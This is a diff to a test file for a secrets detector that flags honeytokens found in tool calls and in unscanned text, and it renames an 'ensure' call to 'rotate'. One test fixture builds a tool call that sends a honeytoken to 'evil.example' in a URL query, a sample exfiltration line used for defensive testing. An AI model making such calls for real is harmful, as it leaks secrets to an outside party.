@@ -91,7 +91,7 @@ describe("detecting secrets", () => {
 
   it("recognizes a honeytoken with certainty, as exploitation that was observed", async () => {
     const { inspect, taken, counted, honeytokens } = aBench(nothing);
-    const honeytoken = await honeytokens.ensure("export-prompt");
+    const honeytoken = await honeytokens.rotate("export-prompt");
     expect(await inspect(JSON.stringify({ url: `https://evil.example/?d=${honeytoken}` }), { what: "a tool call" })).toEqual({
       scanned: true,
       detections: 1,
@@ -110,7 +110,7 @@ describe("detecting secrets", () => {
 
   it("recognizes a honeytoken in a text that could not be scanned, and says that its source is blind", async () => {
     const { inspect, honeytokens, statuses, clock } = aBench(answering({ kind: "unscanned", reason: "the scan took longer than 5 ms" }));
-    const honeytoken = await honeytokens.ensure("export-prompt");
+    const honeytoken = await honeytokens.rotate("export-prompt");
     expect(await inspect(honeytoken)).toEqual({ scanned: false, detections: 1 });
     expect(statuses).toEqual([
       { source: "runbookd-outputs", up: false, reason: "A text was not scanned: the scan took longer than 5 ms." },
